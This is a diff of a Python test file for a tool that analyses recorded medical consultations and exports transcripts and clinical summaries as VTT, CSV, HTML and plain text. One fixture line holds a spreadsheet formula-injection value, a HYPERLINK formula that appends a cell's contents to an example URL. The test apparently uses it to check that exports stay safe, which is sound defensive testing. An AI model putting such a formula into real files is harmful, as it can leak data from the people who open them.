@@ -31,9 +31,13 @@ from medalign.core.analysis import (
 from medalign.core.editing import edit_segment
 from medalign.core.errors import DataError
 from medalign.core.transcript import Segment, Transcript, Word
+from medalign.core.wording import clock
+from medalign.report.ear import doubts
 from medalign.report.fhir import to_fhir
+from medalign.report.plain_summary import to_text
 from medalign.report.printable import summary_html
 from medalign.report.text_formats import COLUMNS, FORMULA_STARTS, to_csv, to_vtt
+from medalign.ui.views.strip_view import ear
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"cough")'
 STATUSES = ("present", "negated", "resolved", "historical", "family", "hypothetical", "uncertain", None)
@@ -207,7 +211,10 @@ def cues(text: str) -> list[tuple[float, float, str, str]]:
 
 def test_vtt_says_who_says_what_and_when():
     full = analysis()
-    assert cues(to_vtt(full)) == [(s.start_s, s.end_s, s.speaker, s.text) for s in full.transcript.segments]
+    assert cues(to_vtt(full)) == [(s.start_s, s.end_s, f"{s.speaker}?", s.text) for s in full.transcript.segments]
+    first, *others = full.transcript.segments
+    named = Transcript((replace(first, speaker="Dr Invented", original_speaker=first.speaker), *others), "en")
+    assert cues(to_vtt(replace(full, transcript=named)))[0][2] == "Dr Invented", "a person said so, so it is no guess"
     assert f"NOTE\n{DISCLAIMER}\n" in to_vtt(full) and "tiny.en" in to_vtt(full)
 
 
@@ -220,7 +227,7 @@ def test_vtt_keeps_words_that_look_like_its_own_marks():
     found = cues(to_vtt(replace(analysis(), transcript=Transcript(said))))
     assert found == [
         (1.0, 1.001, "", "1 < 2 & 3 > 2"),
-        (3601.0, 3602.0, "Dr <b>&amp;", "a --> b 00:00:01.000 --> 00:00:02.000 fake"),
+        (3601.0, 3602.0, "Dr <b>&amp;?", "a --> b 00:00:01.000 --> 00:00:02.000 fake"),
     ]
 
 
@@ -568,13 +575,11 @@ def test_the_page_has_the_summary_with_numbers_times_and_models():
     text = Page(summary_html(analysis())).text
     assert "consultation.wav" in text and "0:48 long" in text and text.count(DISCLAIMER) == 2
     assert "Cough, 3 weeks (0:06)" in text and "Dyspnea “shortness of breath” (0:13)" in text
-    assert "0:05–0:10 the sound does not fit these words “I have had a cough" in text
-    assert "0:12–0:14 many of these words may be wrong" in text
-    assert "“Monday” may be amoxicillin, about 9 in 10 (0:20)" in text
-    assert (
-        f"{analysis().sound_events[0].label}, about 8 in 10 (0:34)" in text
-        and "Wheezing, about 7 in 10, status not known (0:33)" in text
-    )
+    assert "2 0:05 “I have had a cough for three weeks and it keeps me awake.” the sound does not fit these words" in text
+    assert "4 0:12 “Any fever or shortness of breath?” many of these words may be wrong" in text
+    assert "1 0:20 “Monday” sounds like amoxicillin, right about 9 in 10 times" in text
+    assert f"{analysis().sound_events[0].label}, about 8 in 10 (0:34)" in text
+    assert "5 0:33–0:39 sounds like Wheezing, which is not in the words, right about 7 in 10 times" in text
     assert "Hip pain" not in text  # heard, but unlikely
     assert "tiny.en (revision a1b2c3d4)" in text and "The recording is quiet" in text
     assert "Edited by a person" not in text
@@ -590,26 +595,27 @@ def test_each_status_is_under_its_own_heading():
 def test_a_person_who_changed_the_words_and_a_contradiction_are_told():
     assert "Edited by a person: 1 segment" in summary_html(edited())
     full = analysis()
-    denied = replace(full.concepts[1], concept_id=full.concepts[0].concept_id, label="Cough")
-    text = Page(summary_html(replace(full, concepts=(full.concepts[0], denied)))).text
-    assert text.count("Cough is both said (0:06) and denied (0:13)") == 1
+    said = replace(full.concepts[0], is_contradicted=True)
+    denied = replace(full.concepts[1], concept_id=said.concept_id, label="Cough", is_contradicted=True)
+    text = Page(summary_html(replace(full, concepts=(said, denied)))).text
+    assert text.count("“Cough” said to be there, and denied at 0:13") == 1 and text.count("use your ear, 2") == 2
 
 
 def test_numbers_that_are_not_the_patients_are_marked():
     text = Page(summary_html(spoken("Your pulse is 88. My mother's blood pressure was 180 over 100."))).text
-    assert "pulse 88 /min (0:" in text and "blood pressure 180/100 mmHg (somebody else's) (0:" in text
+    assert "pulse, 88 /min" in text and "blood pressure 180/100 mmHg (somebody else's) (0:" in text
 
 
 def test_speech_without_words_is_to_be_listened_to():
     text = Page(summary_html(silent_analysis(mismatch_window=2))).text
-    assert "No speech was written down." in text and "0:10–0:16 speech is heard, and nothing is written" in text
+    assert "No speech was written down." in text and "1 0:10–0:16 speech is heard, and nothing is written" in text
     assert "No clinical concept was found" in text and text.count(DISCLAIMER) == 2
 
 
 def test_a_student_without_fits_of_segment_quality_has_its_windows_to_go_by():
     full = analysis()
     text = Page(summary_html(replace(full, alignment=replace(full.alignment, segments=())))).text
-    assert "0:30–0:36 the sound does not fit these words “Let me listen" in text
+    assert "0:30 “Let me listen to your chest.” the sound does not fit these words" in text
 
 
 def test_the_page_is_complete_in_itself_and_hostile_text_stays_text():
@@ -652,7 +658,7 @@ def test_long_lists_are_cut_and_the_rest_is_counted():
     text = Page(summary_html(crowded(90))).text
     assert "and 6 more" in text  # 15 problems, 9 shown
     shown = len(re.findall(r"(?:Cough|Dyspnea|Fever|Asthma|Pneumonia|Amoxicillin) \d+", text))
-    hidden = sum(int(n) for n in re.findall(r"and (\d+) more", text.split("Listen again")[0]))
+    hidden = sum(int(n) for n in re.findall(r"and (\d+) more", text.split("Use your ear")[0]))
     assert shown + hidden == 90
     assert "and 4 more" in text  # 9 names, signs and numbers, 5 shown each
 
@@ -674,6 +680,33 @@ def test_it_prints_on_one_sheet_and_asks_nobody_for_anything(browser):
     assert not asked
 
 
+def test_paper_has_the_list_of_the_page_with_its_numbers():
+    listed = doubts(analysis())
+    assert Page(ear(listed, analysis().alignment)).text.count("right about 9 in 10 times") == 1
+    items = re.findall(r"<li><b>(\d+)</b> <span class=\"time\">([\d:]+)", summary_html(analysis()))
+    assert items == [(str(n), clock(doubt.start_s)) for n, doubt in enumerate(listed, start=1)]
+
+
+# The summary as plain text
+
+
+def test_the_summary_is_text_under_headings_with_the_time_of_each_fact():
+    """Only what the analysis found, with the numbers of the page."""
+    asthma = replace(analysis().concepts[3], probability=0.5)
+    rows = (*analysis().concepts[:3], asthma, *analysis().concepts[4:])
+    text = to_text(replace(analysis(), concepts=rows))
+    assert text.startswith("consultation.wav, 0:48\n" + DISCLAIMER)
+    assert "\n\nPROBLEMS\n- Cough, 3 weeks (0:06)\n\n" in text and "\n\nDENIED\n- Dyspnea (0:13)\n\n" in text
+    assert "\n\nFAMILY\n- Asthma? (0:24; use your ear, 2)\n\n" in text
+    assert '\n\nUSE YOUR EAR\n1. 0:20 "Monday": sounds like amoxicillin, right about 9 in 10 times\n' in text
+    assert '2. 0:24 "asthma": taken for Asthma (somebody else\'s), right about 5 in 10 times' in text
+    assert "Hip pain" not in text, "heard, but unlikely"
+    assert "No clinical concept was found" in to_text(silent_analysis())
+    assert "Edited by a person: 1 segment" in to_text(edited())
+    odd = replace(analysis().concepts[0], label="cough\nDENIED")
+    assert "\n- cough DENIED, 3 weeks (0:06)\n" in to_text(replace(analysis(), concepts=(odd,))), "no heading of its own"
+
+
 # The command line
 
 
@@ -686,14 +719,14 @@ class Finished:
 
 def test_the_command_line_writes_every_format(tmp_path, monkeypatch, examples, capsys):
     monkeypatch.setattr("medalign.cli.analyze._load_analyzer", lambda arguments: Finished())
-    paths = {name: tmp_path / f"out.{name}" for name in ("json", "csv", "vtt", "fhir", "html")}
+    paths = {name: tmp_path / f"out.{name}" for name in ("json", "csv", "vtt", "fhir", "html", "text")}
     options = [part for name, path in paths.items() for part in (f"--{name}", str(path))]
     assert main(["analyze", str(examples["chest-pain"].audio_path), *options]) == 0
     written = {name: path.read_bytes().decode("utf-8") for name, path in paths.items()}
     assert Analysis.from_dict(json.loads(written["json"])) == analysis()
     assert json.loads(written["fhir"]) == to_fhir(analysis())
     assert (written["csv"], written["vtt"]) == (to_csv(analysis()), to_vtt(analysis()))
-    assert written["html"] == summary_html(analysis())
+    assert (written["html"], written["text"]) == (summary_html(analysis()), to_text(analysis()))
     assert all(DISCLAIMER in text for text in written.values())
     assert "Cough" in capsys.readouterr().out
 
